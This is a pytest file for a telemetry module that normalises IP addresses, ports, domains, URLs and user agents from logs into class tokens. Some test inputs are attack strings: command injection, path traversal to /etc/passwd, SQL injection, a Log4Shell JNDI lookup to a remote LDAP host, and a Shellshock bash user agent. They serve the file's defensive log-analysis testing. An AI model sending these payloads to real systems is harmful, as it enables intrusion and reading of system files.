"""Addresses, ports, domains, URLs and user agents to classes."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loglm_bridge.telemetry.canonical.network.addresses import domain, ip, is_ip, port, url, user_agent

KINDS = (ip, port, domain, url, user_agent)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("127.0.0.1", "{loopback}"),
        ("::1", "{loopback}"),
        ("10.20.30.40", "{private}"),
        ("172.31.0.1", "{private}"),
        ("172.32.0.1", "{public}"),
        ("192.168.1.7", "{private}"),
        ("192.168.1.255", "{broadcast}"),
        ("100.64.0.9", "{private}"),
        ("fd00::17", "{private}"),
        ("fe80::1%eth0", "{linklocal}"),
        ("169.254.169.254", "{metadata}"),
        ("169.254.1.1", "{linklocal}"),
        ("224.0.0.251", "{multicast}"),
        ("ff02::fb", "{multicast}"),
        ("0.0.0.0", "{unspecified}"),
        ("::", "{unspecified}"),
        ("203.0.113.9", "{public}"),
        ("2001:db8::9", "{public}"),
        ("::ffff:10.0.0.1", "{private}"),
        ("[2001:db8::9]", "{public}"),
        ("203.0.113.9:8443", "{public}"),
        ("10.0.0.0/8", "{private}"),
        ("", ""),
        ("-", ""),
        ("filesrv01", "{host}"),
        ("www.shop.example", "www.{domain}.example"),
        ("1.2.3.456", "{other}"),
    ],
)
def test_ip(value, expected):
    assert ip(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("22", "22"),
        ("1023", "1023"),
        ("3389", "3389"),
        ("47001", "47001"),
        ("1024", "{high}"),
        ("49151", "{high}"),
        ("49152", "{ephemeral}"),
        ("65535", "{ephemeral}"),
        ("65536", "{other}"),
        ("https", "https"),
        ("-", ""),
    ],
)
def test_port(value, expected):
    assert port(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("RAW.githubusercontent.com.", "raw.githubusercontent.com"),
        ("api.telegram.org", "api.telegram.org"),
        ("7f3a.ngrok.io", "{sub}.ngrok.io"),
        ("acme.com", "{domain}.com"),
        ("a.b.acme.co.uk", "{subs}.{domain}.co.uk"),
        ("www.acme.com", "www.{domain}.com"),
        ("x7k2p9q4m1z8w3.top", "{random}.top"),
        ("aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.acme.com", "{long}.{domain}.com"),
        ("site.qqzzyy", "{domain}.{tld}"),
        ("dc01.corp.local", "{subs}.local"),
        ("expyuzz4wqqyqhjn.onion", "{onion}"),
        ("4.3.2.1.in-addr.arpa", "{ptr}.in-addr.arpa"),
        ("wpad", "wpad"),
        ("wpad.acme.com", "wpad.{domain}"),
        ("_ldap._tcp.dc._msdcs.acme.local", "_ldap._tcp.dc._msdcs.{domain}"),
        ("dc01", "{host}"),
        ("localhost", "localhost"),
        ("xn--bcher-kva.com", "{idn}.com"),
        ("", ""),
    ],
)
def test_domain(value, expected):
    assert domain(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("http://192.0.2.7:8080/cgi-bin/a.php?id=12&cmd=;id", "http://{ip}:8080/cgi-bin/a.php?id={n}&cmd=;id"),
        ("https://bob:secret@www.acme.com/x.EXE", "https://{credentials}@www.{domain}.com/x.exe"),
        ("/..%2f..%2fetc/passwd", "/../../etc/passwd"),
        ("/item/4711/6f1ed002-ab59-4c03-9fd5-7d7e2c0f1f11", "/item/{n}/{guid}"),
        ("/?user=alice&q=blue+shoes", "/?user={v}&q=blue shoes"),
        ("/a?x=%27%20OR%201%3D1--", "/a?x=' OR 1=1--"),
        ("/${jndi:ldap://203.0.113.9:1389/a}", "/${jndi:ldap://{ip}:{n}/a}"),
        ("/report?from=2024-05-01T10:11:12Z", "/report?from={time}"),
        ("/wp-login.php", "/wp-login.php"),
        ("-", ""),
    ],
)
def test_url(value, expected):
    assert url(value) == expected


def test_percent_encoding_is_decoded_once():
    assert url("/a%2525b") == "/a%25b"


def test_a_log_cannot_spell_a_class_token():
    assert "{private}" not in url("/%7Bprivate%7D")
    assert "{private}" not in user_agent("{private}")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("curl/8.1.2", "curl"),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "mozilla x11 linux rv:{n}.0 firefox",
        ),
        ("sqlmap/1.7 (https://sqlmap.org)", "sqlmap"),
        ("() { :; }; /bin/bash -c 'id 203.0.113.9'", "() { :; }; /bin/bash -c 'id {ip}'"),
        ("-", ""),
    ],
)
def test_user_agent(value, expected):
    assert user_agent(value) == expected


@given(st.text(max_size=400))
def test_any_text_is_read(value):
    for kind in KINDS:
        assert isinstance(kind(value), str)


@given(st.ip_addresses().map(str))
def test_every_address_becomes_a_class(value):
    assert is_ip(value)
    assert ip(value).startswith("{")
    assert ip(value) != "{other}"
